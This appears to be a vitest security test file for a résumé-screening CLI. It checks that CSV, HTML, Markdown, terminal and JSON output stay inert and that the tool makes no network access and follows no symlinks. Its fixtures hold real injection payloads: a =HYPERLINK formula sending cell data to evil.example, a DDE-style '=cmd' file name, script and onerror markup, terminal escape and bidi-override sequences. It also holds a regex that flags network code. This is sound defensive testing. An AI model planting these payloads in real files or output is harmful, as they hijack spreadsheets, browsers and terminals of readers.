// Output that cannot be turned against its reader, checked end to end through the CLI with a hostile résumé
// and hostile file names: no formula in a CSV cell, no live markup in HTML or Markdown, no terminal escape in
// the table, no network access at all (links in PDFs, DOCX and text are never fetched), no link followed out
// of the given folders unless asked, nothing written beside the inputs, and --out replaced atomically.
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { strToU8, zipSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import type { ScreenReport } from "../../src/model.js";
import { makePdf, put } from "../ingest/make-pdf.js";
import { ROOT, runCli } from "../cli/run-cli.js";

const SRC = join(ROOT, "src");
const ESC = "\u001b";
const HOSTILE_TEXT = [
  "Eve Mallory",
  "eve.mallory@example.com · https://tracker.example/pixel.png?who=eve",
  "EXPERIENCE",
  `Machine Learning Engineer, <script>alert("x")</script> Labs Jan 2019 – Present`,
  `• Built =HYPERLINK("https://evil.example/?d="&A1,"Python") models ${ESC}[2J${ESC}]8;;https://evil.example${ESC}\\TensorFlow${ESC}]8;;${ESC}\\`,
  "• Deployed [PyTorch](javascript:alert(1)) services with <img src=x onerror=alert(1)> on AWS \u202Egnp.exe",
].join("\n");

/** A DOCX that links a picture and a page from the web: a reader must never fetch either. */
function linkingDocx(): Uint8Array {
  const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
  const A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"';
  const picture = `<w:r><w:drawing><wp:inline ${A}><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
  const body = `<w:p><w:r><w:t>Eve Mallory</w:t></w:r></w:p><w:p>${picture}<w:hyperlink r:id="rId8"><w:r><w:t>portfolio</w:t></w:r></w:hyperlink></w:p>`;
  const rel = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
  return zipSync({
    "[Content_Types].xml": strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
    "_rels/.rels": strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
    "word/document.xml": strToU8(`<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`),
    "word/_rels/document.xml.rels": strToU8(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel("rId8", "hyperlink", "https://tracker.example/page")}${rel("rId9", "image", "https://tracker.example/pixel.png")}</Relationships>`),
  });
}

/** Recursive listing with sizes and modification times: any write into the folder changes it. */
function snapshot(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: "utf8" })
    .sort()
    .map((name) => {
      const info = statSync(join(dir, name));
      return `${name} ${info.size} ${info.mtimeMs}`;
    });
}

let inbox: string;
let scratch: string;
const HOSTILE_NAMES = ["=cmd|' -C calc'!A0.txt", "@SUM(1+1).txt", "<img src=x onerror=alert(1)>.txt", `${ESC}[31mred${ESC}[0m ${ESC}]0;owned${ESC}\\.txt`];

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), "shortlist-safety-"));
  inbox = join(scratch, "inbox");
  mkdirSync(inbox);
  writeFileSync(join(inbox, "hostile.txt"), HOSTILE_TEXT);
  for (const name of HOSTILE_NAMES) writeFileSync(join(inbox, name), HOSTILE_TEXT);
  writeFileSync(join(inbox, "links.docx"), linkingDocx());
  writeFileSync(
    join(inbox, "links.pdf"),
    await makePdf((doc) => {
      put(doc, "Eve Mallory", 72, 72, 18);
      doc.fontSize(10).text("https://tracker.example/cv", 72, 110, { link: "https://tracker.example/cv", lineBreak: false });
      doc.link(0, 0, 612, 792, "https://tracker.example/whole-page");
    }),
  );
});

// Run from inside the folder, so file names are shown bare and a hostile name starts its cell.
const args = (...extra: string[]) => [".", "--no-cache", "--as-of", "2026-11-29", "--quiet", "-j", "2", "--ocr", "off", ...extra];
const screen = (extra: string[], env: Record<string, string> = {}) => runCli(args(...extra), { cwd: inbox, env });

describe("output that cannot be turned against its reader", () => {
  it("csv: no cell can start a formula, résumé text and file names alike", () => {
    const text = screen(["--format", "csv"]).stdout;
    const cells = text.replace(/^\uFEFF/, "").split("\r\n").flatMap((row) => row.match(/"(?:[^"]|"")*"|[^,]+/g) ?? []).map((cell) => cell.replace(/^"|"$/g, ""));
    expect(cells.some((cell) => cell.startsWith("'="))).toBe(true);
    expect(cells.filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d/.test(cell))).toEqual([]);
    expect(text).not.toContain(ESC);
  });

  it("html: résumé text and file names are inert", () => {
    const html = screen(["--format", "html", "--explain"]).stdout;
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    // The report is also embedded as JSON (script#report-data), where "<" is written \u003c.
    expect(html).not.toMatch(/<img src=x|<script>alert|href="javascript:/);
    expect(html).not.toContain(ESC);
  });

  it("markdown: no live links, images or HTML from a résumé", () => {
    const md = screen(["--format", "md", "--explain"]).stdout;
    expect(md).toContain("\\<img src=x");
    // Markdown escapes with a backslash: only an unescaped bracket or angle bracket would be live.
    expect(md).not.toMatch(/(?<!\\)\]\((?:javascript|https?):|(?<!\\)<(?:img|script)/);
    expect(md).not.toContain(ESC);
  });

  it("table: no escape sequence, control character or bidirectional override reaches the terminal", () => {
    const plain = screen(["--explain"]).stdout;
    expect(plain).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    // With colour on, the only escapes are the colours shortlist itself writes (SGR … m).
    const colored = screen(["--explain"], { FORCE_COLOR: "1", NO_COLOR: "" }).stdout;
    expect(colored.match(/\u001b[^[]|\u001b\[[0-9;]*[^0-9;m]/g) ?? []).toEqual([]);
  });

  it("json keeps the text exactly, escaped as JSON, so a program reading it sees what the file said", () => {
    const report = JSON.parse(screen(["--format", "json"]).stdout) as ScreenReport;
    expect(report.candidates.map((c) => c.file)).toEqual(expect.arrayContaining(HOSTILE_NAMES));
  });

  it("fetches nothing: no connection, no DNS lookup, in the main thread or any worker", () => {
    const log = join(scratch, "network.log");
    const hook = join(scratch, "no-network.mjs");
    writeFileSync(
      hook,
      [
        'import { appendFileSync } from "node:fs";',
        'import net from "node:net";',
        'import dns from "node:dns";',
        'import { isMainThread } from "node:worker_threads";',
        `const log = ${JSON.stringify(log)};`,
        'appendFileSync(log, `loaded ${isMainThread ? "main" : "worker"}\\n`);',
        "const deny = (what) => function (...args) { appendFileSync(log, `${what} ${JSON.stringify(args[0] ?? null)}\\n`); throw new Error(`no network: ${what}`); };",
        'net.Socket.prototype.connect = deny("connect");',
        'dns.lookup = deny("dns");',
        'dns.promises.lookup = deny("dns");',
        'globalThis.fetch = deny("fetch");',
      ].join("\n"),
    );
    const run = screen(["--format", "json"], { NODE_OPTIONS: `--import=${new URL(`file://${hook}`).href}` });
    expect(run.status).toBe(0);
    const lines = readFileSync(log, "utf8").trim().split("\n");
    expect(lines).toContain("loaded main");
    expect(lines).toContain("loaded worker");
    expect(lines.filter((line) => !line.startsWith("loaded"))).toEqual([]);
    const report = JSON.parse(run.stdout) as ScreenReport;
    expect(report.candidates.find((c) => c.file.endsWith("links.docx"))).toMatchObject({ status: "scored" });
    expect(report.candidates.find((c) => c.file.endsWith("links.pdf"))).toMatchObject({ status: "scored" });
  });

  it("has no code that could reach the network", () => {
    const sources = readdirSync(SRC, { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith(".ts"));
    const offending = sources.filter((name) =>
      /from\s+["'](?:node:)?(?:http|https|http2|net|tls|dgram|dns|undici)["']|\bfetch\s*\(|XMLHttpRequest|WebSocket/.test(readFileSync(join(SRC, name), "utf8")),
    );
    expect(offending).toEqual([]);
  });
});

describe("the file system around the inputs", () => {
  it("writes nothing beside the inputs: cache, --out and --log go where they are told", () => {
    const before = snapshot(inbox);
    const elsewhere = mkdtempSync(join(tmpdir(), "shortlist-elsewhere-"));
    const run = runCli([inbox, "--as-of", "2026-11-29", "--quiet", "--ocr", "off", "--out", join(elsewhere, "report.html"), "--format", "html", "--log", join(elsewhere, "run.log")], {
      cwd: inbox,
      env: { XDG_CACHE_HOME: join(elsewhere, "cache") },
    });
    expect(run.status).toBe(0);
    expect(snapshot(inbox)).toEqual(before);
    expect(readdirSync(elsewhere).sort()).toEqual(["cache", "report.html", "run.log"]);
  });

  it("follows no link out of the given folders unless --follow-symlinks", () => {
    const root = mkdtempSync(join(tmpdir(), "shortlist-links-"));
    mkdirSync(join(root, "in"));
    mkdirSync(join(root, "private"));
    writeFileSync(join(root, "private", "someone-else.txt"), HOSTILE_TEXT.replace("Eve Mallory", "Ola Nordmann"));
    symlinkSync(join(root, "private", "someone-else.txt"), join(root, "in", "file-link.txt"));
    symlinkSync(join(root, "private"), join(root, "in", "folder-link"));
    const without = runCli([join(root, "in"), "--format", "json", "--no-cache", "--quiet"]);
    expect(without.stdout).not.toContain("Ola Nordmann");
    const report = JSON.parse(without.stdout) as ScreenReport;
    expect(report.candidates.map((c) => [relative(root, c.file), c.status === "error" && c.error.code])).toEqual([
      ["in/file-link.txt", "SYMLINK_OUTSIDE"],
      ["in/folder-link", "SYMLINK_OUTSIDE"],
    ]);
    const followed = runCli([join(root, "in"), "--format", "json", "--no-cache", "--quiet", "--follow-symlinks"]);
    expect((JSON.parse(followed.stdout) as ScreenReport).candidates.filter((c) => c.status === "scored" && c.contact.name === "Ola Nordmann")).toHaveLength(1);
  });

  it("--out replaces the file atomically, leaves no temporary file, and keeps the old report when the run fails", () => {
    const dir = mkdtempSync(join(tmpdir(), "shortlist-out-"));
    const out = join(dir, "report.json");
    writeFileSync(out, "previous report\n");
    const inodeBefore = statSync(out).ino;
    expect(runCli(["fixtures/resumes/plain-text.txt", "--format", "json", "--no-cache", "--quiet", "--out", out]).status).toBe(0);
    expect(JSON.parse(readFileSync(out, "utf8")).summary.files).toBe(1);
    // A rename puts a new file in place; writing in place would keep the inode.
    expect(statSync(out).ino).not.toBe(inodeBefore);
    expect(readdirSync(dir)).toEqual(["report.json"]);

    writeFileSync(out, "previous report\n");
    const bad = runCli(["fixtures/resumes/plain-text.txt", "--rubric", "test/cli/inputs/bad-rubric.yaml", "--quiet", "--out", out]);
    expect(bad.status).toBe(2);
    expect(readFileSync(out, "utf8")).toBe("previous report\n");
    expect(readdirSync(dir)).toEqual(["report.json"]);
  });

  it("says plainly when --out cannot be written, with exit 2 and no stack trace", () => {
    const run = runCli(["fixtures/resumes/plain-text.txt", "--no-cache", "--quiet", "--out", "/nonexistent-folder/report.txt"]);
    expect(run.status).toBe(2);
    expect(run.stderr).toBe("shortlist: cannot write /nonexistent-folder/report.txt: its folder does not exist; nothing was written there\n");
  });
});
